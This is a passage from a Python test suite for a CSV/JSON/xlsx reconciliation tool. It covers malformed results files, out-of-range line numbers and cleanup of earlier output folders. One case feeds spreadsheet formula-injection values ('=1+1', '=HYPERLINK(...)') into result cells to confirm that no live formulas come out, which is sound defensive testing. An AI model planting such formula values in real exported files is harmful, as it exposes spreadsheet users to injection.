        check=unmatched_count(4),
    ),
    Case(
        "sent-as-xlsx", "sent", data("sent.xlsx", lambda: xlsx_of(SENT_TEXT)), 1, check=same_as_demo
    ),
    Case(
        "results-as-xlsx",
        "results",
        data("results.xlsx", lambda: xlsx_of(RESULTS_TEXT)),
        1,
        check=same_as_demo,
    ),
    Case(
        "results-header-only",
        "results",
        data("results.csv", lines_of(RESULTS_TEXT)[0] + "\n"),
        0,
        check=all_accepted,
    ),
    Case(
        "results-json-empty-list",
        "results",
        data("results.json", '{"ErrorDetail": []}'),
        0,
        check=all_accepted,
    ),
    Case(
        "results-lines-past-the-end",
        "results",
        data(
            "results.csv",
            results_with_lines([("32", "NO_CHANGE"), ("1000", "E1"), ("999999999999", "E2")]),
        ),
        2,
        # Not one result ties: these are not this file's results (issue: trust the verdict).
        "0 of 3 results tie to a record of this file (their lines run 32-999999999999; the "
        "file's records are at lines 2-31)",
    ),
    Case(
        "results-some-lines-past-the-end",
        "results",
        data(
            "results.csv",
            results_with_lines(
                [("32", "NO_CHANGE"), ("1000", "E1"), ("999999999999", "E2"), ("4", "NO_CHANGE")]
            ),
        ),
        1,
        check=unmatched_count(3),
    ),
    Case(
        "results-line-column-holds-text",
        "results",
        data(
            "results.csv",
            results_with_lines([("four", "ALREADY_LOCKED"), ("the 6th", "NO_CHANGE")]),
        ),
        2,
        "0 of 2 results tie to a record of this file: none carries a line number or an "
        "identifier (the line column holds 'four', 'the 6th')",
    ),
    Case(
        "results-some-line-cells-hold-text",
        "results",
        data(
            "results.csv",
            results_with_lines(
                [("four", "ALREADY_LOCKED"), ("the 6th", "NO_CHANGE"), ("4", "NO_CHANGE")]
            ),
        ),
        1,
        check=text_lines_unmatched,
    ),
    Case(
        "results-formula-values",
        "results",
        data("results.csv", results_with_lines([("4", "=1+1"), ("99", '=HYPERLINK("x")')])),
        1,
        check=no_live_formulas,
    ),
    Case("out-folder-made-by-reconciler", "out", lambda folder: _ours(folder), 1, check=replaced),
]


def _ours(folder: Path, keep: str = "") -> Path:
    """An output folder of an earlier run; ``keep`` is an input file the user saved in it."""
    out = folder / "previous"
    out.mkdir()
    if keep == "reasons.csv":
        (out / keep).write_text("from,to\nReturned,ITEM_RETURNED\n", encoding="utf-8")
    elif keep:
        (out / keep).write_text(
            "Action Id,Oid,Action Tracker Id,State\n1000.4636.158133,,,APPROVED\n",
            encoding="utf-8",
        )
    data = b"old\n"
    (out / "stale.csv").write_bytes(data)
    # The manifest an earlier run wrote: it proves stale.csv is reconciler's to remove.
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    manifest = {
        "tool": "reconciler",
        "manifest": 1,
        "files": {"stale.csv": {"size": len(data), "digest": digest}},
    }
    (out / ".reconciler-output").write_text(json.dumps(manifest) + "\n", encoding="utf-8")
    return out


CASES: list[Case] = [*REFUSED, *NORMAL]
